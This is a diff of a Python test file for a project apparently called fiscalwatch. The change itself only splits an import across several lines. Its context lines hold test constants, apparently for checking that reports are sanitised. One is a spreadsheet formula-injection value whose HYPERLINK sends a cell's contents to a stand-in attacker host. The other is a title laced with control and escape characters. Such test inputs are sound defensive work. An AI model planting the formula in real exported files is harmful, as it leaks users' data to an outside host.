@@ -17,7 +17,14 @@ from fiscalwatch.cli import cli
 from fiscalwatch.models import Figure, ParsedDocument
 from fiscalwatch.report import ReportError, build_report
 from fiscalwatch.store import Store
-from tests.report.sample import QINGCHUAN, FrozenClock, add_document, add_finding, day, sample_config
+from tests.report.sample import (
+    QINGCHUAN,
+    FrozenClock,
+    add_document,
+    add_finding,
+    day,
+    sample_config,
+)
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 CONTROL_TITLE = "青川市\x00财政\x08局\x1b[31m\ufffe"
